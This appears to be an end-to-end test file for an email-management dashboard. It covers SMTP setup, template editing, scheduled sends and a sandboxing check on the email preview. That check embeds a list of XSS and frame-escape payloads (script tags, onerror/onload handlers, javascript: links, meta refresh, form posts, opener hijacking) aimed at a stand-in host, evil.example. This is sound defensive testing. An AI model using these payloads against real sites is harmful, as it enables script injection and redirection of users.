import { openScriptedSmtp, type ScriptedSmtp } from '@latchkey/server/testing'
import type { Page } from 'playwright-core'
import { afterEach, expect, test } from 'vitest'
import { findAccessibilityProblemsInBothSchemes } from './axe.ts'
import { heading, openOwnedProject } from './owned-project.ts'

const servers: ScriptedSmtp[] = []
afterEach(() => {
  for (const server of servers.splice(0)) server.close()
})

async function openSmtp(...script: Parameters<typeof openScriptedSmtp>): Promise<ScriptedSmtp> {
  const server = await openScriptedSmtp(...script)
  servers.push(server)
  return server
}

const resetTemplate = 'a70fb3a4-56c1-4e42-af25-49d25603abd0'
const toSource = (subject: string) => `import { NotificationCategory, Subject } from '@stackframe/emails'
import { type } from 'arktype'
export const variablesSchema = type({ passwordResetLink: 'string' })
export function EmailTemplate({ variables }) {
  return (
    <>
      <Subject value="${subject}" />
      <NotificationCategory value="Transactional" />
      <a href={variables.passwordResetLink}>Choose another password</a>
    </>
  )
}
EmailTemplate.PreviewVariables = { passwordResetLink: 'https://example.com' }
`

/** Without the one that loads behind it, which takes its place once it is there. */
const preview = (page: Page) => page.frameLocator('iframe[title="Preview of the email"]:not([aria-hidden])')

async function replaceSource(page: Page, source: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Source of the template' }).click()
  await page.keyboard.press('Control+a')
  await page.keyboard.insertText(source)
}

test('an email server is tried and saved, a template is edited, and the next email is the new one', async () => {
  let isRefusing = false
  const refusing = await openSmtp({ auth: ({ say }) => say('535 5.7.8 Bad credentials') })
  const working = await openSmtp({ rcpt: ({ say, goOn }) => (isRefusing ? say('550 No such mailbox') : goOn()) })
  const { page, open, askAsAdmin } = await openOwnedProject()
  await open('/emails')
  await heading(page, 'Emails').waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])

  await page.getByRole('navigation', { name: 'Emails' }).getByRole('link', { name: 'Server settings' }).click()
  await page.getByLabel('Your own SMTP server').check()
  const values = {
    Host: '127.0.0.1',
    Port: `${refusing.port}`,
    Username: 'ada',
    Password: 'secret',
    'Sender name': '<b>Fieldnotes</b> שלום',
    'Sender address': 'hello@example.com',
  }
  for (const [label, value] of Object.entries(values)) await page.getByLabel(label, { exact: true }).fill(value)
  await page.getByRole('button', { name: 'Send test email' }).click()
  await page.getByText('Sign-in: failed').waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  await page.getByLabel('Port', { exact: true }).fill(`${working.port}`)
  await page.getByRole('button', { name: 'Send test email' }).click()
  await expect.poll(() => working.emails.length).toBe(1)
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByText('The email server was saved.').waitFor()

  await open(`/emails/templates/${resetTemplate}`)
  await preview(page).getByText('Reset your password').first().waitFor()
  await replaceSource(page, toSource('Broken').replace('</>', '</'))
  await page.getByRole('alert').or(page.locator('.ui-error')).first().waitFor()
  await replaceSource(page, toSource('Brand new words'))
  await preview(page).getByText('Choose another password').waitFor()
  await page.getByText('Brand new words').first().waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByText('was saved.').waitFor()

  const email = 'ada@example.com'
  await askAsAdmin('POST', '/users', {
    primary_email: email,
    primary_email_auth_enabled: true,
    password: 'correct horse',
  })
  const reset = { email, callback_url: 'http://localhost:3000' }
  await askAsAdmin('POST', '/auth/password/send-reset-code', reset)
  await expect.poll(() => working.emails.length).toBe(2)
  expect(working.emails[1]).toContain('Subject: Brand new words')

  // One that is refused is in the log with its reason, and can be sent again.
  isRefusing = true
  await askAsAdmin('POST', '/auth/password/send-reset-code', reset)
  await open('/emails/sent?status=failed')
  const failed = page.getByRole('row', { name: 'Brand new words' })
  await failed.getByText('Failed').waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  isRefusing = false
  await failed.getByRole('link').click()
  await page.frameLocator('iframe[title="The email"]').getByText('Choose another password').waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  await page.getByRole('button', { name: 'Send again' }).click()
  await expect.poll(() => working.emails.length).toBe(3)
})

test('a draft is scheduled for all users, cancelled before it is sent, and sent at once', async () => {
  const working = await openSmtp()
  const { page, open, askAsAdmin } = await openOwnedProject()
  await askAsAdmin('PATCH', '/internal/config/override', {
    config_override_string: JSON.stringify({
      'emails.server': {
        isShared: false,
        host: '127.0.0.1',
        port: working.port,
        username: 'ada',
        password: 'secret',
        senderName: 'Fieldnotes',
        senderEmail: 'hello@example.com',
      },
    }),
  })
  await askAsAdmin('POST', '/users', { primary_email: 'grace@example.com', display_name: '<i>Grace</i> 👩‍🚀' })
  await open('/emails/drafts')
  await page.getByText('No drafts yet').waitFor()
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  await page.getByRole('button', { name: 'Write email' }).first().press('Enter')
  await page.keyboard.type('<script> Spring שלום')
  await page.keyboard.press('Enter')
  await heading(page, '<script> Spring שלום').waitFor()

  await page.getByRole('button', { name: 'Send', exact: true }).click()
  await page.getByLabel('All users').check()
  await page.getByText('1 recipient').waitFor()
  const nextWeek = new Date(Date.now() + 7 * 86_400_000).toISOString().slice(0, 16)
  await page.getByLabel('When (optional)').fill(nextWeek)
  await page.getByRole('button', { name: 'Schedule' }).click()
  const scheduled = page.getByRole('row', { name: 'Spring' })
  await scheduled.getByText('Scheduled').waitFor()
  await scheduled.getByRole('button', { name: 'Cancel' }).click()
  await page.getByRole('button', { name: 'Cancel email' }).click()
  await scheduled.getByText('Scheduled').waitFor({ state: 'detached' })
  expect(await findAccessibilityProblemsInBothSchemes(page)).toEqual([])
  expect(working.emails).toEqual([])

  await page.getByRole('button', { name: 'Send', exact: true }).click()
  await page.getByLabel('All users').check()
  await page.getByRole('button', { name: 'Send now' }).click()
  await expect.poll(() => working.emails.length).toBe(1)
  // Told by the server: the page does not ask again and again.
  await page.getByRole('row', { name: 'Spring' }).getByText('Sent', { exact: true }).waitFor()
})

test('nothing gets out of the preview of an email: no script, form, message, refresh, frame or link to the top', async () => {
  const { page, open } = await openOwnedProject()
  const context = page.context()
  const requests: string[] = []
  await context.route('https://evil.example/**', (route) => {
    requests.push(`${route.request().resourceType()} ${new URL(route.request().url()).pathname}`)
    // What a tab can do to the page that has opened it.
    const script =
      "<script>for (const w of [opener?.top, opener]) try { w.location = 'https://evil.example/tab' } catch {}"
    return route.fulfill({ contentType: 'text/html', body: `Evil${script}</script>` })
  })
  // Between the windows of the page, and not of the test.
  await page.addInitScript(() => {
    const received: unknown[] = []
    Object.assign(globalThis, { received })
    if (top === window) addEventListener('message', ({ data }) => received.push(data))
  })
  const report = "parent.postMessage('out','*');top.location='https://evil.example/script'"
  const attacks = `
    <script>${report}</script><script src="https://evil.example/src"></script>
    <svg onload="${report}"></svg><img src="https://evil.example/image" onerror="${report}">
    <iframe srcdoc="<script>parent.${report}</script>"></iframe><iframe src="https://evil.example/frame"></iframe>
    <object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
    <base href="https://evil.example/base/" target="_top">
    <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
    <link rel="stylesheet" href="https://evil.example/style"><style>@import 'https://evil.example/import';</style>
    <form action="https://evil.example/form" target="_top"><input autofocus onfocus="${report}"><button>Submit</button></form>
    <a href="https://evil.example/top" target="_top">To the top</a>
    <a href="https://evil.example/parent" target="_parent">To the parent</a>
    <a href="https://evil.example/self" target="_self">In place</a>
    <a href="javascript:${report}" target="_self">By script</a>
    <a href="https://evil.example/opened" target="_blank" rel="opener">In a tab</a>
    </textarea></form><p>All attacks are here</p>`
  const source = toSource('Attack').replace(
    /<a href.*<\/a>/,
    `<div dangerouslySetInnerHTML={{ __html: ${JSON.stringify(attacks)} }} />`,
  )
  await open(`/emails/templates/${resetTemplate}`)
  await preview(page).getByText('Reset your password').first().waitFor()
  const address = page.url()
  await replaceSource(page, source)
  await preview(page).getByText('All attacks are here').waitFor()
  for (const target of ['Submit', 'To the top', 'To the parent', 'By script']) {
    await preview(page).getByText(target, { exact: true }).click()
  }
  // A link opens a tab, which cannot reach the page.
  const [tab] = await Promise.all([context.waitForEvent('page'), preview(page).getByText('In a tab').click()])
  await tab.getByText('Evil').waitFor()
  await preview(page).getByText('In place').click()
  await preview(page).getByText('All attacks are here').waitFor({ state: 'detached' })
  expect(page.url()).toBe(address)
  expect(await page.evaluate(() => (globalThis as unknown as { received: unknown[] }).received)).toEqual([])
  // Emails show images of any host, and nothing else.
  expect(requests.toSorted()).toEqual(['document /opened', 'image /image'])
  expect(context.pages()).toHaveLength(2)
})
